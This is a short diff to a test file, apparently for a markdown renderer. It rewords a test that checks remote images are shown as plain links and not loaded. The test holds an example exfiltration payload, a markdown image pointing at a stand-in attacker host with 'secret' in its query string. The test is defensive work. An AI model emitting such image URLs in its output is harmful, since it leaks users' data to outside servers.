@@ -48,7 +48,7 @@ test('links leave the page safely', () => {
   }
 })
 
-test('a remote image is a link: showing it would tell its server what was said', () => {
+test('a remote image is a link: showing it would send its server the content of its address', () => {
   const container = show('![chart](https://evil.example/x.png?q=secret)')
   expect(container.querySelector('img')).toBeNull()
   expect(container.querySelector('a')?.textContent).toBe('Image: chart')
